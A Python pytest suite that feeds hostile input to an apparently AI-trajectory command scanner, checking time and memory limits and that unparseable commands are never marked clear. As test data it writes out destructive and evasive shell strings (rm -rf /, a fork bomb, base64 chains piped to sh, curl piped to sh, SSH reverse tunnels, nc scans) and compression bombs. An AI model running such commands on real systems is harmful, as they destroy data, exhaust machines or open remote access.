"""Hostile input: ends soon, in little memory, and is never called clear when it cannot be understood."""

import base64
import ctypes
import ctypes.util
import gzip
import json
import os
import subprocess
import tempfile

import pytest
from program import check, run, run_measured, start_measured, steps_record

SECONDS = 5  # a slow, shared machine; what is aimed at is 0.1
MEMORY_KB = 64 * 1024


def nested(text, times):
    for _ in range(times):
        text = "echo " + base64.b64encode(text.encode()).decode() + " | base64 -d | sh"
        if len(text) > 200_000:
            break
    return text


def doublings(n):
    return "x=aaaaaaaaaa\n" + "x=$x$x\n" * n + "echo $x"


# name: (command, whether it can be understood; None: either way)
COMMANDS = {
    "parens": (b"(" * 65536, False),
    "open pipe": (b"a|" * 32768, False),
    "nul": (b"\0" * 100_000, False),
    "quotes": (b'"' * 1_000_000, None),
    "quotes odd": (b'"' * 1_000_001, False),
    "substitutions": (b"$(" * 100, False),
    "substitutions closed": (b"echo " + b"$(" * 100 + b"ls" + b")" * 100, None),
    "not utf-8": (b"ls \xff\xfe\x80 '\xc3' \xed\xa0\x80", None),
    "heredocs": (b"".join(b"cat <<A%d\n" % i for i in range(5000)), True),
    "heredocs on a line": (b"cat " + b"<<A " * 10000, False),
    "nested heredocs": (b"bash <<A%d\n" * 1 % 0 + b"".join(b"bash <<A%d\n" % i for i in range(1, 200)), None),
    "huge word": (b"rm -rf /" + b"a" * 4_000_000, None),
    "many words": (b"echo " + b"a " * 1_000_000, None),
    "semicolons": (b";" * 1_000_000, False),
    "commands": (b"ls;" * 333_333, None),
    "doublings": (doublings(100_000).encode(), None),
    "doublings few": (doublings(64).encode(), None),
    "range bomb": (b"echo {1..999999999}", None),
    "brace bomb": (b"rm " + b"{a,b}" * 64, None),
    "nested braces": (b"echo " + b"{a," * 20000 + b"}" * 20000, None),
    "seq bomb": (b"for i in $(seq 1 999999999); do rm -rf /x$i; done", None),
    "base64 towers": (nested("rm -rf ~", 50).encode(), None),
    "fork bomb": (b":(){ :|:& };:", None),
    "function chain": (b"".join(b"f%d(){ f%d; f%d; }\n" % (i, i + 1, i + 1) for i in range(40)) + b"f0", None),
    "recursive alias": (b"alias a='b;b' b='a;a'\na", None),
    "many findings": (b"nc -z 203.0.113.7 " + b" ".join(b"%d" % i for i in range(10_000)), None),
    "padded base64": (b"echo " + b"YQ==" * 100_000 + b" | base64 -d | sh", None),
    "printf width": (b"printf '%999999999d' 1 | sh", None),
    "printf widths": (b"x=$(printf '%65535d' 1); " + b"x=$x$x;" * 60 + b" eval \"$x\"", None),
    "replace blow-up": (b"a=" + b"a" * 5000 + b"; " + b"a=${a//a/$a};" * 8 + b" eval $a", None),
    "python product": (b"python3 -c 'import os; os.system(\"a\"*10**9)'", None),
    "python products": (b"python3 -c 'x=\"a\"*1000;" + b"x=x*1000;" * 20 + b"import os;os.system(x)'", None),
    "python parens": (b"python3 -c '" + b"(" * 65536 + b"'", False),
    "python indent": (b"python3 - <<E\n" + b"".join(b" " * i + b"if x:\n" for i in range(500)) + b"E\n", None),
    "backticks": (b"`" * 65536, None),
    "arithmetic": (b"$((" * 20000, False),
    "dollar braces": (b"${" * 32768, False),
    "redirections": (b"<" * 65536, False),
    "arrays": (b"a=( " * 16384, False),
    "evals": (b"eval " * 20000 + b"ls", None),
    "sudos": (b"sudo " * 20000 + b"rm -rf /", None),
    "bash -c tower": (b"bash -c \"" * 2001, False),
    "cases": (b"case x in " * 10000, False),
    "ifs": (b"if a; then " * 10000, False),
    "cds": (b"cd a;" * 50_000 + b"rm -rf x", None),
    "globs": (b"rm -rf " + b"*/" * 50_000, None),
    "dots": (b"rm -rf /" + b"a/../" * 100_000, None),
    "carriage returns": (b"ls\r" * 50_000, None),
    "line ends": (b"\n" * 1_000_000, None),
    "continuations": (b"ls \\\n" * 100_000, None),
    "comment": (b"# " + b"x" * 2_000_000, None),
    "single quote": (b"'" + b"a" * 500_000, False),
    "find execs": (b"find . " + b"-exec sh -c 'find . " * 501, False),
    "for loops": (b"for a in 1 2 3 4 5 6 7 8 9; do " * 12 + b"rm -rf /$a;" + b" done;" * 12, None),
    "sets": (b"if a; then x=1; else x=2; fi; " * 3000 + b"rm -rf $x$x$x$x", None),
    "secrets": (b"ssh -R 1:localhost:1 a@example.org " + b"password=" * 50_000, None),
    "curl options": (b"curl " * 20000 + b"| sh", None),
    "long option": (b"ssh -R 1:localhost:1 " + b"-o A=" + b"b" * 1_000_000 + b" u@203.0.113.9", None),
}


@pytest.fixture(scope="module")
def idle():
    """Peak memory of a run that does nothing much."""
    return run_measured("scan", "--jsonl", "-j1", "-", stdin=b'{"steps":[{"command":"ls"}]}').peak_kb


def bounded(name, result, idle, size, report):
    grown = result.peak_kb - idle
    report(f"{name:24} {result.seconds * 1000:8.0f} ms {grown / 1024:7.1f} MB over {size / 1e6:6.2f} MB of input")
    assert result.seconds < SECONDS
    assert grown * 1024 < MEMORY_KB * 1024 + 6 * size


@pytest.fixture
def report(capsys):
    def say(line):
        path = os.environ.get("TRAJSAFE_HOSTILE_LOG")
        if path:
            with open(path, "a", encoding="utf-8") as log:
                log.write(line + "\n")
        print(line)
    return say


@pytest.mark.parametrize("name", COMMANDS)
def test_command(name, idle, report):
    command, understood = COMMANDS[name]
    result = run_measured("check", "--json", stdin=command, timeout=60)
    bounded(name, result, idle, len(command), report)
    assert result.code == 0
    verdict = result.json()
    assert verdict["understood"] == (verdict["unknown"] == [])
    if understood is False:
        assert not verdict["understood"] and verdict["basis"] != "clear"
    if not verdict["understood"]:
        assert verdict["basis"] in ("unknown", "finding")


@pytest.mark.parametrize("name", COMMANDS)
def test_command_in_a_record(name, idle, report, tmp_path):
    command, understood = COMMANDS[name]
    text = command.decode("utf-8", "surrogateescape") if b"\xff" not in command else command.decode("latin-1")
    path = tmp_path / "runs.jsonl"
    path.write_text(json.dumps(steps_record(text, "ls")) + "\n" + json.dumps(steps_record("ls")) + "\n")
    result = run_measured("scan", "--jsonl", "-j1", str(path), timeout=60)
    bounded("record: " + name, result, idle, path.stat().st_size, report)
    verdicts = result.lines()
    assert [v["record"] for v in verdicts] == [0, 1] and result.code == 0
    assert verdicts[1]["decision"] == "keep" and verdicts[1]["unknown"] == []
    if understood is False:
        assert verdicts[0]["unknown"] and verdicts[0]["coverage"]["partial"] + verdicts[0]["coverage"]["unsupported"] > 0


@pytest.mark.parametrize("name", ["parens", "nul", "quotes odd", "base64 towers", "not utf-8", "secrets"])
def test_explain(name, idle, report):
    command, _ = COMMANDS[name]
    result = run_measured("explain", stdin=command, timeout=60)
    bounded("explain: " + name, result, idle, len(command), report)
    assert result.code == 0 and b"\0" not in result.out
    result.out.decode()


FILES = {
    "deep json": b"[" * 100_000 + b"]" * 100_000,
    "deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep record": b'{"steps":[{"command":"ls","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}]}",
    "cut record": json.dumps(steps_record("ls -la", "echo hello"))[:25].encode(),
    "random": bytes((i * 7919 + 13) % 256 for i in range(100_000)),
    "nul": b"\0" * 100_000,
    "quotes": b'"' * 1_000_000,
    "open string": b'{"steps":[{"command":"' + b"a" * 1_000_000,
    "commas": b'{"steps":[' + b"," * 1_000_000,
    "tiny values": b"[" + b"0," * 1_000_000 + b"0]",
    "no format": b'{"a":1}\n' * 1000,
    "half a surrogate": b'{"steps":[{"command":"\\ud800 ls"}]',
}


@pytest.mark.parametrize("name", FILES)
def test_file(name, idle, report, tmp_path):
    path = tmp_path / "x.jsonl"
    path.write_bytes(FILES[name] + b"\n")
    result = run_measured("scan", "--jsonl", str(path), timeout=60)
    bounded("file: " + name, result, idle, len(FILES[name]), report)
    assert result.code == 3
    assert result.err
    for verdict in result.lines():
        assert "error" in verdict and verdict["decision"] == "review" and verdict["understood"] is False
    summary = run("scan", str(path), timeout=60)
    assert summary.code == 3 and b"not read" in summary.out


def test_not_utf8_inside_a_record(tmp_path):
    path = tmp_path / "x.jsonl"
    path.write_bytes(b'{"steps":[{"command":"ssh -N -R 1:localhost:22 u\xff\xfe@203.0.113.9"}]}\n')
    result = run_measured("scan", "--jsonl", str(path))
    assert result.code in (0, 3)
    result.out.decode()
    assert result.lines()[0]["decision"] != "keep"


def zstd(data):
    name = ctypes.util.find_library("zstd")
    if not name:
        pytest.skip("no libzstd")
    library = ctypes.CDLL(name)
    library.ZSTD_compressBound.restype = library.ZSTD_compress.restype = ctypes.c_size_t
    room = library.ZSTD_compressBound(ctypes.c_size_t(len(data)))
    out = ctypes.create_string_buffer(room)
    n = library.ZSTD_compress(out, ctypes.c_size_t(room), data, ctypes.c_size_t(len(data)), 1)
    return out.raw[:n]


@pytest.mark.parametrize("kind", ["gz", "zst"])
def test_compression_bomb(kind, idle, report, tmp_path):
    good = json.dumps(steps_record("ls")).encode() + b"\n"
    bomb = b'{"steps":[{"command":"' + b"a" * 200_000_000 + b'"}]}\n' + good
    path = tmp_path / f"bomb.jsonl.{kind}"
    path.write_bytes(gzip.compress(bomb, 1) if kind == "gz" else zstd(bomb))
    result = run_measured("scan", "--jsonl", "-j1", "--max-record", "1M", str(path), timeout=60)
    bounded(f"bomb: {kind}", result, idle, path.stat().st_size, report)
    first, second = result.lines()
    assert result.code == 3 and first["error"]["code"] and second["decision"] == "keep"


@pytest.mark.parametrize("kind", ["gz", "zst"])
def test_cut_compression(kind, tmp_path):
    data = "".join(json.dumps(steps_record(f"echo {i}")) + "\n" for i in range(5000)).encode()
    packed = gzip.compress(data) if kind == "gz" else zstd(data)
    path = tmp_path / f"cut.jsonl.{kind}"
    path.write_bytes(packed[: len(packed) // 2])
    result = run_measured("scan", "--jsonl", str(path))
    assert result.code == 3 and result.err


def fed(arguments, chunks):
    """Feeds the chunks through a pipe; the output's lines, what was said, exit code and peak memory."""
    with tempfile.NamedTemporaryFile("r") as place, tempfile.TemporaryFile() as err:
        child = start_measured(place.name, *arguments, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=err)
        for chunk in chunks:
            child.stdin.write(chunk)
        child.stdin.close()
        out = child.stdout.read()
        code = child.wait()
        child.stdout.close()
        err.seek(0)
        return [json.loads(line) for line in out.splitlines()], err.read(), code, int(place.read().split()[1])


def long_line(before, megabytes, after):
    yield before
    for _ in range(megabytes):
        yield b"a" * 1_000_000
    yield after


def test_line_through_a_pipe_in_constant_memory(idle, report):
    """A 200 MB line is skipped; the record after it is judged."""
    good = json.dumps(steps_record("ls")).encode()
    (first, second), err, code, peak = fed(["scan", "--jsonl", "-j1", "--max-record", "1M", "-"],
                                           long_line(b'{"steps":[{"command":"', 200, b'"}]}\n' + good + b"\n"))
    report(f"200 MB line: {(peak - idle) / 1024:.1f} MB more")
    assert code == 3 and b"stdin:1" in err
    assert first["error"]["code"] and first["source"] == "stdin:1"
    assert second["decision"] == "keep" and second["source"] == "stdin:2"
    assert peak - idle < 16 * 1024


def test_line_of_check_is_bounded(idle, report):
    (first, second), _, code, peak = fed(["check", "--jsonl"],
                                         long_line(b"", 200, b'\n{"id":"next","command":"ls"}\n'))
    report(f"200 MB line of check: {(peak - idle) / 1024:.1f} MB more")
    assert first["error"] and first["decision"] == "ask" and second["id"] == "next" and code == 3
    assert peak - idle < 200 * 1024


def test_many_bad_lines(tmp_path):
    path = tmp_path / "x.jsonl"
    path.write_bytes(b"".join(b"{bad %d\n" % i for i in range(20000)) + json.dumps(steps_record("ls")).encode() + b"\n")
    result = run_measured("scan", str(path))
    assert result.code == 3 and len(result.out) < 10_000


def test_empty_and_white_space(tmp_path):
    for name, data in {"empty": b"", "blank": b" \n\n\t\n", "bom": b"\xef\xbb\xbf"}.items():
        path = tmp_path / name
        path.write_bytes(data)
        result = run_measured("scan", str(path))
        assert result.code == 3 and b"not read: 1" in result.out, name


def test_nothing_to_check():
    assert check(b"")["findings"] == []
